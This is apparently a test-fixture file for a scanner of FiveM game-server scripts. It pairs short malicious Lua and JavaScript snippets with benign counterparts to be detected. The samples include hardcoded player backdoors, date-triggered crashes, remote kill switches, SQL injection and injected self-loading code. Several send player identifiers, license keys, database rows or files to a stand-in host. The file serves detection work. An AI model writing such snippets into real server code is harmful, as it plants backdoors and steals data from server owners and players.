import { js, lua, type Fixture } from './fixture.ts'

export const behaviourFixtures: Fixture[] = [
  lua(
    'open-to-players',
    `RegisterNetEvent('job:pay', function(amount)\n  local xPlayer = ESX.GetPlayerFromId(source)\n^ xPlayer.addMoney(amount)\nend)`,
    `RegisterNetEvent('job:pay', function(amount)\n  local xPlayer = ESX.GetPlayerFromId(source)\n  if xPlayer.job.name ~= 'miner' then return end\n  xPlayer.addMoney(amount)\nend)`,
  ),
  lua(
    'open-to-players',
    `RegisterNetEvent('bonus')\nAddEventHandler('bonus', function()\n^ ESX.GetPlayerFromId(source).addAccountMoney('bank', 1000000)\nend)`,
    `AddEventHandler('bonus', function()\n  ESX.GetPlayerFromId(source).addAccountMoney('bank', 1000000)\nend)`,
  ),
  lua(
    'open-to-players',
    `local function give(Player, name)\n^ Player.Functions.AddItem(name, 1)\nend\nRegisterCommand('refreshhud', function(src, args)\n  give(QBCore.Functions.GetPlayer(src), args[1])\nend, false)`,
    `local function give(Player, name)\n  Player.Functions.AddItem(name, 1)\nend\nRegisterCommand('giveitem', function(src, args)\n  give(QBCore.Functions.GetPlayer(src), args[1])\nend, true)`,
  ),
  lua(
    'open-to-players',
    `AddEventHandler('chatMessage', function(src, name, message)\n  if message == '!potato' then\n^   ESX.GetPlayerFromId(src).addMoney(5)\n  end\nend)`,
    `AddEventHandler('chatMessage', function(src, name, message)\n  if message == '!help' then\n    TriggerClientEvent('chat:addMessage', src, help)\n  end\nend)`,
  ),
  lua(
    'open-to-players',
    `RegisterCommand('reset_all', function()\n  for _, id in ipairs(GetPlayers()) do\n^   DropPlayer(id, 'Timed out')\n  end\nend)`,
    `RegisterCommand('leave', function(source)\n  DropPlayer(source, 'Bye')\nend)`,
  ),
  js(
    'open-to-players',
    `onNet('shop:sell', (price) => {\n^ exports.ox_inventory.AddItem(source, 'money', price)\n})`,
    `onNet('shop:sell', (item) => {\n  exports.ox_inventory.AddItem(source, 'money', prices[item])\n})`,
  ),
  lua(
    'fixed-player',
    `local id = GetPlayerIdentifierByType(source, 'license')\n^if id == 'license:5f3a9c01d2' then open() end`,
    `local id = GetPlayerIdentifierByType(source, 'license')\nif id:sub(1, 8) == 'license:' then open() end`,
  ),
  lua(
    'fixed-player',
    `local ranks = { ['char1:5f3a9c01d25f3a9c01d25f3a9c01d25f3a9c01d2'] = 2 }\n^local rank = ranks[xPlayer.identifier]`,
    `local ranks = { ['char1:0000000000000000000000000000000000000000'] = 2 }\nlocal rank = ranks[xPlayer.identifier]`,
  ),
  lua(
    'fixed-player',
    `^local holder = QBCore.Functions.GetPlayerByCitizenId('HXK72091')`,
    `local holder = QBCore.Functions.GetPlayerByCitizenId(citizenid)`,
  ),
  js(
    'fixed-player',
    `const [id] = getPlayerIdentifiers(source)\n^if (id.slice(-6) === '004417') open()`,
    `const [id] = getPlayerIdentifiers(source)\nif (id.length === 40) open()`,
  ),
  lua(
    'remote-switch',
    `PerformHttpRequest('https://a.example/key', function(status, body)\n  if body ~= 'ok' then\n^   StopResource('es_extended')\n  end\nend)`,
    `PerformHttpRequest('https://a.example/version', function(status, body)\n  if body ~= version then print('An update is available') end\nend)\nStopResource(GetCurrentResourceName())`,
  ),
  lua(
    'remote-switch',
    `SetHttpHandler(function(req, res)\n^ ExecuteCommand('restart garage')\nend)`,
    `SetHttpHandler(function(req, res)\n  res.send(json.encode({ players = #GetPlayers() }))\nend)`,
  ),
  lua(
    'waits-for-date',
    `local ends = 1767225600\n^if os.time() > ends then crash() end`,
    `local cooldown = 3600\nif os.time() - last > cooldown then reset() end`,
  ),
  lua(
    'waits-for-date',
    `^if os.date('%Y-%m-%d') >= '2026-01-31' then crash() end`,
    `if os.date('%H:%M') == '06:00' then restart() end`,
  ),
  js(
    'waits-for-date',
    `^if (Date.now() > 1767225600000) crash()`,
    `if (Date.now() - startedAt > 60000) reset()`,
  ),
  lua(
    'replaces-function',
    `local real = IsPlayerAceAllowed\n^IsPlayerAceAllowed = function(source, ace) return source == 7 or real(source, ace) end`,
    `local IsPlayerAceAllowed = IsPlayerAceAllowed\nlocal isAllowed = IsPlayerAceAllowed(source, 'garage')`,
  ),
  js(
    'replaces-function',
    `^Array.prototype.includes = function (value) { return true }`,
    `Array.prototype.last = function () { return this[this.length - 1] }`,
  ),
  js(
    'replaces-function',
    `^Reflect.defineProperty(Array.prototype, 'includes', { value: () => true })`,
    `Reflect.defineProperty(Array.prototype, 'last', { value: () => undefined })`,
  ),
  lua('runs-computed-code', `^ExecuteCommand(table.concat(words, ' '))`, `ExecuteCommand('refresh')`),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('relay', function(name, ...)\n^ TriggerEvent(name, ...)\nend)`,
    `RegisterNetEvent('relay', function(name, ...)\n  TriggerEvent('garage:' .. name, ...)\nend)`,
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('sync', function(query)\n^ MySQL.query(query)\nend)`,
    `RegisterNetEvent('sync', function(name)\n  MySQL.query('SELECT id FROM garages WHERE name = ?', { name })\nend)`,
  ),
  lua(
    'grants-rights',
    `^MySQL.update('UPDATE users SET bank = bank + ? WHERE identifier = ?', { cut, 'char1:reserve-of-the-state' })`,
    `MySQL.update('UPDATE users SET job = ? WHERE identifier = ?', { 'unemployed', id })`,
  ),
  lua(
    'grants-rights',
    `RegisterNetEvent('loaded', function()\n^ QBCore.Functions.AddPermission(source, tierOf(source))\nend)`,
    `QBCore.Commands.Add('promote', '', {}, true, function(source, args)\n  QBCore.Functions.AddPermission(args[1], args[2])\nend, 'god')`,
  ),
  lua(
    'global-by-text',
    `^local _, secret = debug.getupvalue(handler, 1)`,
    `local info = debug.getinfo(1, 'S')`,
  ),
  lua(
    'global-by-text',
    `local lang = { b = 'PQeQrQf' }\nfor key, text in pairs(lang) do lang[key] = text:gsub('Q', '') end\n^_G[lang.b]('https://a.example')`,
    `local lang = { b = 'Perf' }\nprint(lang.b)`,
  ),
  lua(
    'secret-and-http',
    `local names = { 'sv_hostname', 'sv_licenseKey' }\nlocal out = {}\nfor _, name in ipairs(names) do out[name] = GetConvar(name, '') end\n^PerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`,
    `local names = { 'sv_hostname', 'locale' }\nlocal out = {}\nfor _, name in ipairs(names) do out[name] = GetConvar(name, '') end\nPerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`,
  ),
  lua(
    'sends-data',
    `local queue = {}\nqueue[#queue + 1] = { name = 'a', ids = GetPlayerIdentifiers(source) }\n^PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`,
    `local queue = {}\nqueue[#queue + 1] = { name = 'a', ids = 3 }\nPerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`,
  ),
  lua(
    'sends-data',
    `AddEventHandler('log', function(text)\n^ PerformHttpRequest('https://a.example', print, 'POST', text)\nend)\nTriggerEvent('log', GetPlayerEndpoint(source))`,
    `AddEventHandler('log', function(text)\n  PerformHttpRequest('https://a.example', print, 'POST', text)\nend)\nTriggerEvent('log', 'started')`,
  ),
  js(
    'sends-data',
    `form.addEventListener('submit', () => {\n^ navigator.sendBeacon('https://a.example', new FormData(form))\n})`,
    `form.addEventListener('submit', () => {\n  fetch('https://garage/save', { method: 'POST', body: new FormData(form) })\n})`,
    'page',
  ),
  lua(
    'fixed-player',
    `local weights = { [-1894720331] = 60 }\n^local weight = weights[GetHashKey(GetPlayerIdentifierByType(source, 'license'))]`,
    `local weights = { [1] = 60 }\nlocal weight = weights[GetHashKey(GetPlayerIdentifierByType(source, 'license'))]`,
  ),
  lua(
    'grants-rights',
    `local id = GetPlayerIdentifierByType(source, 'license')\n^ExecuteCommand(('add_principal identifier.%s group.admin'):format(id))`,
    `RegisterCommand('promote', function(source, args)\n  ExecuteCommand('refresh')\nend, true)`,
  ),
  lua(
    'sends-data',
    `for rows in (function() return MySQL.query.await('SELECT * FROM users') end) do\n^ PerformHttpRequest('https://a.example', print, 'PUT', json.encode(rows))\nend`,
    `for _, name in ipairs({ 'a' }) do\n  PerformHttpRequest('https://a.example', print, 'PUT', name)\nend`,
  ),
  lua('global-by-text', `^local numbers = { order = 0x561C060B }`, `local numbers = { order = 0x561C060C }`),
  lua(
    'lowers-protection',
    `PerformHttpRequest('https://a.example', function(status, text)\n  for name, value in text:gmatch('(%w+)=(%w+)') do\n^   SetConvar(name, value)\n  end\nend)`,
    `PerformHttpRequest('https://a.example', function(status, text)\n  SetConvar('garage_motd', text)\nend)`,
  ),
  lua(
    'lowers-protection',
    `^SetRoutingBucketEntityLockdownMode(0, 'inactive')`,
    `SetRoutingBucketEntityLockdownMode(0, 'strict')`,
  ),
  lua(
    'sends-data',
    `lib.callback.register('read', function(source, owner, path)\n^ return LoadResourceFile(owner, path)\nend)`,
    `lib.callback.register('read', function(source, name)\n  return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')\nend)`,
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('call', function(resource, name, ...)\n^ exports[resource][name](nil, ...)\nend)`,
    `RegisterNetEvent('call', function(...)\n  exports['garage']:open(...)\nend)`,
  ),
  js(
    'writes-code',
    `require('http').createServer((req, res) => {\n^ req.pipe(require('fs').createWriteStream(root + req.url))\n})`,
    `require('http').createServer((req, res) => {\n  req.pipe(require('fs').createWriteStream('last.json'))\n})`,
  ),
  js(
    'runs-computed-code',
    `^require('module')._extensions['.jpg'] = (module, name) => module._compile(read(name), name)`,
    `require('module')._extensions['.js']`,
  ),
  js(
    'decoder',
    `const at = (codes) => codes.map((code) => code - 3)\n^require(String.fromCharCode(...at([102, 107, 108])))`,
    `const at = (names) => names.map((name) => name + '.js')\nrequire(at(['a'])[0])`,
  ),
  js(
    'global-by-text',
    `const act = { op: ['rm', 'Sync'].join('') }\n^disk[act.op](folder)`,
    `const act = { op: ['read', 'Dir'].join('') }\ndisk[act.op](folder)`,
  ),
  js(
    'writes-other-resource',
    `^require('fs').rmSync(\`\${GetResourcePath(GetCurrentResourceName())}/..\`)`,
    `require('fs').rmSync(\`\${GetResourcePath(GetCurrentResourceName())}/cache..json\`)`,
  ),
  js(
    'remote-switch',
    `new WebSocket('wss://a.example').onmessage = ({ data }) => {\n^ fetch(\`https://\${GetParentResourceName()}/app\`, { method: 'POST', body: data })\n}`,
    `new WebSocket('wss://a.example').onmessage = ({ data }) => show(data)\nfetch(\`https://\${GetParentResourceName()}/app\`, { method: 'POST', body: name })`,
    'page',
  ),
  lua(
    'remote-switch',
    `PerformHttpRequest('https://a.example/key', function(status)\n  if status ~= 200 then\n^   MySQL.update('UPDATE horses SET model = ?', { 'a_c_rat_01' })\n  end\nend)`,
    `PerformHttpRequest('https://a.example/names', function(status, body)\n  MySQL.update('UPDATE horses SET name = ?', { body })\nend)`,
  ),
  lua(
    'stops-server',
    `^while os.clock() < stop do end`,
    `while self:run() do end\nwhile true do Wait(0) end`,
  ),
  lua(
    'sends-data',
    `RegisterNetEvent('evidence', function(url)\n^ exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)\nend)`,
    `exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`,
    'client',
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('search', function(where)\n^ MySQL.query('SELECT * FROM players WHERE ' .. where)\nend)`,
    `local kinds = { a = 'cars' }\nRegisterNetEvent('search', function(kind)\n  MySQL.query('SELECT * FROM ' .. kinds[kind])\nend)`,
  ),
  lua('hidden-text', `^local marks = '${'\u200b\u200c'.repeat(8)}'`, `local mark = '\u200b'`),
  js(
    'writes-code',
    `const text = fs.readFileSync(file, 'utf8')\n^require('fs').writeFileSync(file, mark + require('fs').readFileSync(file))`,
    `require('fs').writeFileSync('names.json', require('fs').readFileSync(file))`,
  ),
  js(
    'sends-data',
    `const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })\n^request.end(require('fs').readFileSync(name))`,
    `const request = require('https').request({ host: 'discord.com', path: '/api/users' })\nrequest.end(require('fs').readFileSync(name))`,
  ),
  js(
    'writes-code',
    `^require('fs').appendFileSync(file, 'RegisterNetEvent("a", function(code) load(code)() end)')`,
    `require('fs').appendFileSync(file, 'The garage was opened by ' + name)`,
  ),
]
